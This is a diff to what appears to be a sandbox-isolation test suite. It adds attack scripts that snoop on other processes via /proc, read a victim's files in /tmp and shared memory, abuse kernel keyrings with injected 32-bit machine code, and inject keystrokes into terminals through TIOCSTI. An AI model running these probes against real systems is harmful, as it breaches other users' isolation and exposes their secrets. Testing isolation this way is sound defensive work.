@@ -10,6 +10,23 @@ export interface Attack {
   script: string;
   /** Succeeds where its output matches. Left out: where any of the victim's secrets is in it. */
   won?: RegExp;
+  /** Held by the view of the session; users alone do not hold it, as the server says. */
+  needsView?: true;
+}
+
+/** Programs that the attacks are made of: without one of them an attack would hold without having been tried. */
+export const TOOLS = ['python3', 'curl', 'git', 'ipcs', 'ipcmk', 'unshare', 'nsenter', 'mount', 'prlimit', 'setsid'];
+
+const CARRIED_OUT = 'carried out to its end';
+
+/** The script, which says of each program in it that it came to its end. */
+export function saying(script: string): string {
+  return script.replaceAll('\nE', `\nprint("${CARRIED_OUT}")\nE`);
+}
+
+/** Whether each of the programs in a script came to its end. @param said what the script of `saying` printed */
+export function wasCarriedOut(script: string, said: string): boolean {
+  return said.split(CARRIED_OUT).length >= script.split('\nE').length;
 }
 
 /** What is read, sent or ended from inside. */
@@ -59,6 +76,7 @@ export const DIRECT: readonly Attack[] = [
   { name: 'read what else is kept beside the server', script: 'cat "$HIDDEN/secrets.json"', won: /HIDDEN-SECRET/ },
   {
     name: 'see processes of others',
+    needsView: true,
     script: 'ls /proc | grep -c "^[0-9]"; cat /proc/[0-9]*/cmdline | tr "\\0" " "',
     won: /server\.ts|victim/,
   },
@@ -123,6 +141,7 @@ export const DIRECT: readonly Attack[] = [
   },
   {
     name: 'meet the other in /tmp, /var/tmp or shared memory',
+    needsView: true,
     script: 'ls -A /tmp /var/tmp /dev/shm; cat /tmp/victim-* /var/tmp/victim-* /dev/shm/victim-*',
     won: /victim-/,
   },
@@ -131,6 +150,20 @@ export const DIRECT: readonly Attack[] = [
     script:
       'ipcs -m -q -s; cat /proc/sysvipc/shm | tail -n +2; keyctl show @u 2>/dev/null; grep -v "^ *$" /proc/keys | grep -c victim',
     won: /0x0000cafe|51966|^[1-9]/m,
+  },
+  {
+    name: 'keep keys in the kernel, where others that inherit the same keyring would find them, also by calls of 32 bits and x32',
+    script:
+      'python3 - <<E\nimport ctypes,mmap,platform\nlibc=ctypes.CDLL(None,use_errno=True)\nadd,ask,ctl=(248,249,250) if platform.machine()=="x86_64" else (217,218,219)\nfor ring in (-2,-3,-4,-5):\n  if libc.syscall(add,b"user",b"attacker",b"x",1,ring)>=0: print("KEPT",ring)\n  if libc.syscall(ctl,0,ring,1)>=0: print("FOUND",ring)\n  if libc.syscall(ask,b"user",b"victim",None,ring)>=0: print("READ",ring)\nif libc.syscall(ctl,1,None)>=0: print("JOINED")\nif platform.machine()=="x86_64":\n  if libc.syscall(0x40000000+ctl,0,-3,1)>=0: print("FOUND by x32")\n  code=mmap.mmap(-1,4096,prot=7)\n  code.write(bytes.fromhex("53b82001000031dbb9fdffffffba01000000cd805bc3"))\n  if ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()>=0: print("FOUND by 32 bits")\nE',
+    won: /KEPT|FOUND|READ|JOINED/,
+    needsView: true,
+  },
+  {
+    name: 'type into a terminal',
+    script:
+      'python3 - <<E\nimport errno,fcntl,os,pty,termios\nfor path in ("/dev/tty","/dev/console","/dev/tty0","/dev/pts/0"):\n  try:\n    fcntl.ioctl(os.open(path,os.O_RDWR|os.O_NOCTTY),termios.TIOCSTI,b"x"); print("TYPED",path)\n  except OSError: pass\nmain,end=pty.openpty()\nos.setsid()\nfcntl.ioctl(end,termios.TIOCSCTTY,0)\ntry:\n  fcntl.ioctl(end,termios.TIOCSTI,b"x"); print("TYPED")\nexcept OSError as e:\n  print("refused" if e.errno==errno.EPERM else "TYPED, were it not for a setting of the kernel: %d" % e.errno)\nE',
+    won: /TYPED/,
+    needsView: true,
   },
   {
     name: 'get rights by programs with the set-user-ID bit',
